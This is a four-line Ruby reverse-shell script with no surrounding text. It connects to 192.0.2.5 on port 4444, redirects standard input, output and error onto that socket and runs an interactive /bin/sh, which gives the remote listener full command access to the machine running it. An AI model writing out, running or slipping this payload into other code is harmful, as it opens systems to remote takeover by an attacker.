require 'socket'
s = TCPSocket.open("192.0.2.5", 4444)
[$stdin, $stdout, $stderr].each { |io| io.reopen(s) }
exec "/bin/sh -i"
